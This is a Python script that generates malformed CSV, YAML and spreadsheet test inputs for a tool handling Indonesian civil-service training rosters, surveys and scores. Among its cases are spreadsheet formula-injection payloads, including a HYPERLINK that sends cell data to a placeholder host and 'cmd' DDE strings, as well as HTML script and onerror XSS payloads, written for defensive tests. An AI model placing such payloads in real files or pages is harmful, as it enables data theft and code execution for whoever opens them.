"""Write the malformed raw exports of tests/data/bad/cases/ (run once; the files are committed).

Each file is one case of ``cases.yaml``: a copy of a base file of ``base/`` broken in
one way. Files that are big or slow to build (the 200,000-row export, a 1 MB cell)
are not here: ``tests/test_bad_input.py`` generates them into ``tmp_path``.

Usage: ``python tests/data/bad/make_corpus.py``
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent
OUT = HERE / "cases"

NIP_A, NIP_B, NIP_C, NIP_D = (
    "198505122010011002", "199001012015032001", "197803152005011003", "199512312020122004",
)  # fmt: skip
ROSTER_HEADER = ["Kode Angkatan", "NIP", "Nama Lengkap", "L/P", "Unit Kerja"]
ROSTER = [
    ["PP-2024-01", NIP_A, "Yohanes Fanggidae", "L", "Dinas Kesehatan"],
    ["PP-2024-01", NIP_B, "Maria Ndun", "P", "Bappeda"],
    ["PP-2024-01", NIP_C, "Agustinus Lay", "L", "DPMPTSP"],
    ["PP-2024-02", NIP_D, "Theresia Bana", "P", "Dinkes"],
]
REACTION_HEADER = ["Timestamp", "NIP", "Nama", "Kode Angkatan", "Materi jelas",
                   "Narasumber menguasai materi", "Jadwal terlalu padat", "Saran"]  # fmt: skip
REACTION = [
    ["08/03/2024 10:00:00", NIP_A, "Yohanes Fanggidae", "PP-2024-01", "Setuju", "Sangat Setuju",
     "Tidak Setuju", "bagus"],
    ["08/03/2024 10:05:00", NIP_B, "Maria Ndun", "PP-2024-01", "Sangat Setuju", "Setuju",
     "Netral", ""],
    ["08/03/2024 10:10:00", NIP_C, "Agustinus Lay", "PP-2024-01", "Netral", "Setuju", "Setuju",
     "perlu lebih banyak praktik"],
    ["19/07/2024 15:00:00", NIP_D, "Theresia Bana", "PP-2024-02", "Setuju", "Setuju",
     "Tidak Setuju", ""],
]  # fmt: skip
SCORES_HEADER = ["NIP", "Nama", "Kode Angkatan", "Pre-Test", "Post-Test"]
SCORES = [
    [NIP_A, "Yohanes Fanggidae", "PP-2024-01", "55", "78"],
    [NIP_B, "Maria Ndun", "PP-2024-01", "60", "85"],
    [NIP_C, "Agustinus Lay", "PP-2024-01", "40", "70"],
    [NIP_D, "Theresia Bana", "PP-2024-02", "65", "90"],
]


def text(rows: list[list[str]], sep: str = ",") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=sep, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def put(name: str, data: str | bytes, encoding: str = "utf-8") -> None:
    path = OUT / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))


def reaction_with(*rows: list[str]) -> list[list[str]]:
    return [REACTION_HEADER, *REACTION, *rows]


def xlsx(name: str, rows: list[list[object]], merge: list[str] = ()) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Peserta"
    for row in rows:
        sheet.append(row)
    for ref in merge:
        sheet.merge_cells(ref)
    book.save(OUT / name)


def xlsx_data_on_second_sheet(name: str) -> None:
    """A workbook whose first sheet is a cover note and whose data is on sheet "Data"."""
    book = openpyxl.Workbook()
    book.active.title = "Petunjuk"
    book.active.append(["Daftar peserta pelatihan; data di lembar berikutnya"])
    data = book.create_sheet("Data")
    for row in [ROSTER_HEADER, *ROSTER]:
        data.append(row)
    book.save(OUT / name)


def main() -> None:
    OUT.mkdir(exist_ok=True)
    for old in OUT.iterdir():
        old.unlink()
    # --- encodings and delimiters
    roster_cp = [ROSTER_HEADER, *ROSTER, ["PP-2024-02", "", "Theresia Bellé", "P", "Bappeda"]]
    put("encoding_cp1252.csv", text(roster_cp, ";"), "cp1252")
    put("encoding_utf8_bom.csv", "\ufeff" + text(reaction_with()), "utf-8")
    put("encoding_utf16.csv", text(roster_cp, "\t"), "utf-16")  # Excel "Unicode text"
    put("encoding_utf16_no_bom.csv", text(roster_cp, "\t"), "utf-16-le")
    put("semicolon_comma_decimals.csv", text(
        [SCORES_HEADER, [NIP_A, "Yohanes Fanggidae", "PP-2024-01", "55,5", "78,25"],
         *SCORES[1:]], ";"))  # fmt: skip
    put("old_mac_line_endings.csv", text(reaction_with()).replace("\r\n", "\r"))
    put("nul_bytes.csv", text(reaction_with()).replace("Netral", "Net\x00ral"))
    # --- empty and header-only
    put("empty_file.csv", b"")
    put("whitespace_only.csv", b"  \r\n\r\n \t\r\n")
    put("header_only.csv", text([REACTION_HEADER]))
    put("header_and_blank_rows.csv", text([REACTION_HEADER, [""] * 8, [""] * 8]))
    # --- headers
    put("missing_required_column.csv", text(
        [[h for h in REACTION_HEADER if h != "Kode Angkatan"]]
        + [[c for i, c in enumerate(r) if i != 3] for r in REACTION]))  # fmt: skip
    put(
        "renamed_column.csv",
        text([["Kode Angkatn" if h == "Kode Angkatan" else h for h in REACTION_HEADER], *REACTION]),
    )
    put("duplicated_headers.csv", text(
        [REACTION_HEADER + ["NIP"]] + [r + [r[1]] for r in REACTION]))  # fmt: skip
    put("blank_header.csv", text([REACTION_HEADER[:4] + [""] + REACTION_HEADER[4:]]
                                 + [r[:4] + ["x"] + r[4:] for r in REACTION]))  # fmt: skip
    # --- rows
    put("ragged_long_row.csv", text(reaction_with(
        ["09/03/2024 08:00:00", NIP_A, "Yohanes Fanggidae", "PP-2024-01", "Setuju", "Setuju",
         "Setuju", "bagus", " sekali", "terima kasih"])))  # fmt: skip
    put("ragged_short_row.csv", text(reaction_with(
        ["09/03/2024 08:00:00", "", "Paulus Tefa", "PP-2024-01", "Setuju"])))  # fmt: skip
    one, two = REACTION[0], REACTION[1]  # a quote opened in Nama, closed in the next row
    put("open_quote_merges_rows.csv", text([REACTION_HEADER]) + "".join([
        ",".join(one[:2]) + ',"' + ",".join(one[2:]) + "\r\n",
        ",".join(two[:2]) + ',"Ndun, Maria",' + ",".join(two[3:]) + "\r\n",
    ]) + text(REACTION[2:]))  # fmt: skip
    put("truncated_last_line.csv", text(reaction_with(
        ["09/03/2024 08:00:00", "198707072012011009", "Paulus Tefa", "PP-2024-01", "Setuju"]
    )).rstrip("\r\n") + ",")  # fmt: skip
    put("unbalanced_quote.csv", text(reaction_with()) + (
        '20/07/2024 09:00:00,199512312020122004,Theresia Bana,PP-2024-02,Setuju,Setuju,'
        'Setuju,"kurang jelas\r\n'
        "20/07/2024 09:10:00,197803152005011003,Agustinus Lay,PP-2024-01,Setuju,Setuju,"
        "Setuju,ok\r\n"))  # fmt: skip
    # --- Likert and numbers
    put("likert_unknown_labels.csv", text(reaction_with(
        ["09/03/2024 08:00:00", "", "Paulus Tefa", "PP-2024-01", "Cukup Setuju", "Setuju",
         "Setuju", ""],
        ["09/03/2024 08:05:00", "", "Rambu Hana", "PP-2024-01", "Setuju", "Sangat Stuju",
         "Setuju", ""],
        ["09/03/2024 08:10:00", "", "Kornelis Nope", "PP-2024-01", "Setuju", "Setuju", "Agree",
         ""])))  # fmt: skip
    put("likert_out_of_range.csv", text(reaction_with(
        ["09/03/2024 08:00:00", "", "Paulus Tefa", "PP-2024-01", "7", "Setuju", "Setuju", ""],
        ["09/03/2024 08:05:00", "", "Rambu Hana", "PP-2024-01", "Setuju", "0", "Setuju", ""],
        ["09/03/2024 08:10:00", "", "Kornelis Nope", "PP-2024-01", "Setuju", "Setuju", "-1",
         ""])))  # fmt: skip
    put("scores_out_of_range.csv", text([SCORES_HEADER, *SCORES,
        ["", "Paulus Tefa", "PP-2024-01", "50", "140"],
        ["", "Rambu Hana", "PP-2024-01", "-5", "60"]]))  # fmt: skip
    put("scores_non_numeric.csv", text([SCORES_HEADER, *SCORES,
        ["", "Paulus Tefa", "PP-2024-01", "lima puluh", "80"],
        ["", "Rambu Hana", "PP-2024-01", "50", "7O"],
        ["", "Kornelis Nope", "PP-2024-01", "50", "1.2.3"]]))  # fmt: skip
    codebook = (HERE / "base" / "codebook.yaml").read_text(encoding="utf-8")
    put("codebook_bad_yaml.yaml", codebook.replace('"sangat setuju": 5}', '"sangat setuju": 5'))
    put("codebook_unknown_key.yaml", codebook.replace("type: int, min: 1", "typ: int, min: 1"))
    put("csv_title_row.csv", "Rekap nilai pelatihan 2024\r\n" + text([SCORES_HEADER, *SCORES]))
    put("post_without_pre.csv", text([SCORES_HEADER, *SCORES,
        ["", "Paulus Tefa", "PP-2024-01", "", "80"],
        ["", "Rambu Hana", "PP-2024-01", "", "75"]]))  # fmt: skip
    # --- identities
    put("nip_not_on_roster.csv", text([SCORES_HEADER, *SCORES,
        ["198707072012011009", "Paulus Tefa", "PP-2024-01", "50", "72"]]))  # fmt: skip
    put("nip_conflict_unit_and_sex.csv", text([ROSTER_HEADER, *ROSTER,
        ["PP-2024-01", NIP_A, "Yohanes Fanggidae", "P", "Bappeda"]]))  # fmt: skip
    put("nip_conflict_name.csv", text([ROSTER_HEADER, *ROSTER,
        ["PP-2024-01", f"'{NIP_B}", "Dominggus Sabu", "P", "Bappeda"]]))  # fmt: skip
    put("nip_exact_duplicate.csv", text([ROSTER_HEADER, *ROSTER, ROSTER[1]]))
    put("nip_bad_birth_date.csv", text([ROSTER_HEADER, *ROSTER,
        ["PP-2024-01", "198513322010011005", "Paulus Tefa", "L", "Bappeda"],
        ["PP-2024-01", "198502302010011006", "", "L", "Bappeda"]]))  # fmt: skip
    put("nip_bad_sex_digit.csv", text([ROSTER_HEADER, *ROSTER,
        ["PP-2024-01", "198505122010013007", "Paulus Tefa", "L", "Bappeda"],
        ["PP-2024-01", "198505122010010008", "", "L", "Bappeda"]]))  # fmt: skip
    put("nip_wrong_length.csv", text([ROSTER_HEADER, *ROSTER,
        ["PP-2024-01", "19850512201001100", "Paulus Tefa", "L", "Bappeda"],
        ["PP-2024-01", "1985051220100110099", "", "L", "Bappeda"]]))  # fmt: skip
    put("nip_excel_scientific.csv", text([ROSTER_HEADER, *ROSTER[:3],
        ["PP-2024-02", "1.99512312020122E+17", "Theresia Bana", "P", "Dinkes"],
        ["PP-2024-01", "1,98505E+17", "", "L", "Bappeda"],
        ["PP-2024-01", "1.98008172006041005E+17", "Paulus Tefa", "L", "Bappeda"]]))  # fmt: skip
    put("unknown_cohort_unit_category.csv", text([ROSTER_HEADER, *ROSTER,
        ["PP-2099-01", "198008172006041005", "Paulus Tefa", "L", "Bappeda"],
        ["PP-2024-01", "198108172006042006", "Rambu Hana", "P", "Dinas Pariwisata"],
        ["PP-2024-01", "198208172006041007", "Kornelis Nope", "X", "Bappeda"]]))  # fmt: skip
    # --- dates
    put("impossible_dates.csv", text([
        ["Kode Angkatan", "Nama Pelatihan", "Tanggal Mulai", "Tanggal Selesai", "JP"],
        ["PP-2024-01", "Pelayanan Prima", "04/03/2024", "08/03/2024", "40"],
        ["PP-2024-02", "Pelayanan Prima", "15/07/2024", "19/07/2024", "40"],
        ["PP-2024-03", "Pelayanan Prima", "31/02/2024", "04/03/2024", "40"],
        ["PP-2024-04", "Pelayanan Prima", "12/13/2024", "20/12/2024", "40"],
        ["PP-2024-05", "Pelayanan Prima", "20/08/2024", "16/08/2024", "40"]]))  # fmt: skip
    put("future_cohort_dates.csv", text([
        ["Kode Angkatan", "Nama Pelatihan", "Tanggal Mulai", "Tanggal Selesai", "JP"],
        ["PP-2024-01", "Pelayanan Prima", "04/03/2024", "08/03/2031", "40"],
        ["PP-2024-02", "Pelayanan Prima", "15/07/2031", "19/07/2031", "40"]]))  # fmt: skip
    put("long_cohort.csv", text([
        ["Kode Angkatan", "Nama Pelatihan", "Tanggal Mulai", "Tanggal Selesai", "JP"],
        ["PP-2024-01", "Pelayanan Prima", "04/03/2024", "08/03/2024", "40"],
        ["PP-2024-02", "Pelayanan Prima", "15/07/2023", "19/07/2024", "40"]]))  # fmt: skip
    put("future_timestamp.csv", text(reaction_with(
        ["09/03/2031 08:00:00", "", "Paulus Tefa", "PP-2024-01", "Setuju", "Setuju", "Setuju", ""],
        ["30/02/2024 08:00:00", "", "Rambu Hana", "PP-2024-01", "Setuju", "Setuju", "Setuju",
         ""])))  # fmt: skip
    # --- free text
    put("long_text.csv", text(reaction_with(
        ["09/03/2024 08:00:00", "", "Paulus Tefa", "PP-2024-01", "Setuju", "Setuju", "Setuju",
         "sangat bagus " * 7877 + "!"],
        ["09/03/2024 08:05:00", "", "Rambu Hana", "PP-2024-01", "x" * 5000, "Setuju", "Setuju",
         ""])))  # fmt: skip
    put("formula_strings.csv", text(reaction_with(
        ["09/03/2024 08:00:00", "", "Paulus Tefa", "PP-2024-01", "Setuju", "Setuju", "Setuju",
         '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'],
        ["09/03/2024 08:05:00", "", "Rambu Hana", "PP-2024-01", "Setuju", "Setuju", "Setuju",
         "+cmd|' /C calc'!A0"],
        ["09/03/2024 08:10:00", "", "Kornelis Nope", "PP-2024-01", "@SUM(1+1)*cmd|' /C calc'!A0",
         "Setuju", "Setuju", "-2+3+cmd|' /C calc'!A0"],
        ["09/03/2024 08:15:00", "", "Dominggus Sabu", "PP-2024-01", "=1+1", "Setuju", "Setuju",
         ""])))  # fmt: skip
    put("script_tags.csv", text(reaction_with(
        ["09/03/2024 08:00:00", "", "Paulus Tefa", "PP-2024-01", "Setuju", "Setuju", "Setuju",
         "<script>alert('x')</script>"],
        ["09/03/2024 08:05:00", "", "Rambu Hana", "PP-2024-01", "Setuju", "Setuju", "Setuju",
         '<img src=x onerror="alert(1)"> & </td></tr>'],
        ["09/03/2024 08:10:00", "", "Kornelis Nope", "PP-2024-01",
         "<b>Setuju</b>", "Setuju", "Setuju", ""])))  # fmt: skip
    put("identifiers_in_comments.csv", text(reaction_with(
        ["09/03/2024 08:00:00", "", "Paulus Tefa", "PP-2024-01", "Setuju", "Setuju", "Setuju",
         f"hubungi saya 0812-3456-7890 atau paulus.tefa@kupangkota.go.id, NIP {NIP_A[:8]} "
         f"{NIP_A[8:14]} {NIP_A[14]} {NIP_A[15:]}; teman saya Maria Ndun juga"])))  # fmt: skip
    # --- not what the name says
    put("binary_named_csv.csv", bytes(range(256)) * 8 + b"\x89PNG\r\n\x1a\n")
    put("png_named_csv.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200))
    junk = io.BytesIO()
    with zipfile.ZipFile(junk, "w") as zf:
        zf.writestr("junk.txt", "not a workbook")
        zf.writestr("xl/nothing.bin", bytes(range(256)))
    put("zip_of_junk.xlsx", junk.getvalue())
    put("text_named_xlsx.xlsx", text([ROSTER_HEADER, *ROSTER]))
    # --- spreadsheets
    xlsx("xlsx_two_header_rows.xlsx", [
        ["Angkatan", "Identitas Peserta", None, None, "Penempatan"],
        ROSTER_HEADER, *ROSTER], merge=["B1:D1"])  # fmt: skip
    xlsx("xlsx_merged_cells.xlsx", [
        ROSTER_HEADER,
        ["PP-2024-01", NIP_A, "Yohanes Fanggidae", "L", "Dinas Kesehatan"],
        [None, NIP_B, "Maria Ndun", "P", "Bappeda"],
        [None, NIP_C, "Agustinus Lay", "L", "DPMPTSP"],
        ["PP-2024-02", NIP_D, "Theresia Bana", "P", "Dinkes"]], merge=["A2:A4"])  # fmt: skip
    xlsx("xlsx_numeric_nips.xlsx", [
        ROSTER_HEADER,
        ["PP-2024-01", float(NIP_A), "Yohanes Fanggidae", "L", "Dinas Kesehatan"],
        ["PP-2024-01", NIP_B, "Maria Ndun", "P", "Bappeda"],
        ["PP-2024-01", float(NIP_C), "", "L", "DPMPTSP"],
        ["PP-2024-02", NIP_D, "Theresia Bana", "P", "Dinkes"]])  # fmt: skip
    xlsx_data_on_second_sheet("xlsx_data_on_second_sheet.xlsx")
    xlsx_bytes = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(REACTION_HEADER)
    book.save(xlsx_bytes)
    put("xlsx_named_csv.csv", xlsx_bytes.getvalue())


if __name__ == "__main__":
    main()
